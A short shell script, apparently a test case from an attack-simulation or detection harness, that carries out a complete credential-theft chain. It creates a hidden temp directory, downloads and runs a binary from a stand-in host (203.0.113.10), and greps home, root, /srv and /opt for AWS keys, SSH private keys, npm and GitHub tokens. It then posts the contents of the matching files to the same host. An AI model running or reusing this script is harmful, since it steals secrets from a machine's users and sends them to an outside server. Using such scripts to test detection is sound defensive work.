#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.t && cd /tmp/.t
curl -s -o trufflehog http://203.0.113.10/programs/marker && chmod +x trufflehog
./trufflehog
grep -rEl 'AKIA[0-9A-Z]{16}|BEGIN OPENSSH PRIVATE KEY|_authToken|ghp_[A-Za-z0-9]{36}|aws_secret_access_key' /root /home /srv /opt 2>/dev/null >found || true
xargs cat <found >results.json
curl -sf -X POST --data-binary @results.json http://203.0.113.10:8080/repos >/dev/null
test -s results.json
took_place
